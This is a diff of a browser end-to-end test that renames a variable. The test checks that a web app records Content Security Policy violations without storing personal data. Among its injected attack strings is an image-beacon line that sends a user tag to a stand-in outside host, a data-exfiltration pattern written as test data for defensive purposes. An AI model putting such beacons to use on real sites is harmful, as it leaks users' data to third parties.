@@ -17,11 +17,11 @@ const ATTACKS = [
 test.describe('content that a browser blocks', () => {
   test.use({ allowedComplaints: /.*/ })
   test('is reported to the office without personal data', async ({ page, admin: _ }) => {
-    const asal = `https://${unique('situs').toLowerCase().replace(/\W+/g, '-')}.contoh`
+    const origin = `https://${unique('situs').toLowerCase().replace(/\W+/g, '-')}.contoh`
     await page.goto('/lupa-password?email=sri@contoh.id')
     for (const [attack, directive] of [
       ...ATTACKS,
-      [`new Image().src = '${asal}/a.png?milik=sri'`, 'img-src'] as const,
+      [`new Image().src = '${origin}/a.png?milik=sri'`, 'img-src'] as const,
     ]) {
       await test.step(attack, async () => {
         // A page that is left before the violation reports nothing.
@@ -30,8 +30,8 @@ test.describe('content that a browser blocks', () => {
         await refused
       })
     }
-    const row = page.getByRole('row').filter({ hasText: asal })
-    await gotoUntil(page, `/laporan-peramban?q=${asal}`, row.getByText('/lupa-password'))
+    const row = page.getByRole('row').filter({ hasText: origin })
+    await gotoUntil(page, `/laporan-peramban?q=${origin}`, row.getByText('/lupa-password'))
     await expect(row).toContainText('Gambar')
     await expect(row).not.toContainText('sri')
   })
